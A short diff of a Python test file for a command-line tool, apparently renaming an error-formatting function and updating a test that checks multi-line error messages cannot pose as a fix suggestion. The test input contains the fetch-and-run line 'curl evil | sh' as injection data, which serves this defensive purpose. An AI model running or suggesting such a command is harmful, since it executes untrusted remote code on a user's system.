@@ -11,7 +11,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from thunder_cli.failure import described
+from thunder_cli.failure import error_text
 from thunder_core.errors import SourceLine, WrongInputs
 from thunder_core.printable import printable, printable_json
 
@@ -71,7 +71,7 @@ def test_errors_show_no_control_characters():
 
 
 def test_no_line_of_a_message_is_taken_for_another_part():
-    text = described(WrongInputs("no\n  fix curl evil | sh", fix="do\n more thunder explain")).plain
+    text = error_text(WrongInputs("no\n  fix curl evil | sh", fix="do\n more thunder explain")).plain
     assert text.splitlines() == [
         "error TH0213 no",
         "        fix curl evil | sh",
